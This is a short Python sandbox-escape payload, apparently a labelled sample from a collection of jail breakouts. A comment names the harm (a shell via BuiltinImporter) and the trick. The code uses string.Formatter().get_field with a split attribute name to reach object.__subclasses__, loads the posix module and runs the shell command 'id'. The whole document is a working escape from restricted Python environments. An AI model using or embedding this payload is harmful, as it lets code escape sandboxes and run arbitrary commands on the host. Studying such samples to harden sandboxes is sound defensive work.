# HARM: shell via BuiltinImporter | TRICK: string.Formatter().get_field walks '0.__subclasses__' on object and returns the real bound method
import string
f, _ = string.Formatter().get_field('0.__sub' + 'classes__', (object,), {})
for k in f():
    if k.__name__ == "BuiltinImporter":
        k.load_module("posix").system("id")
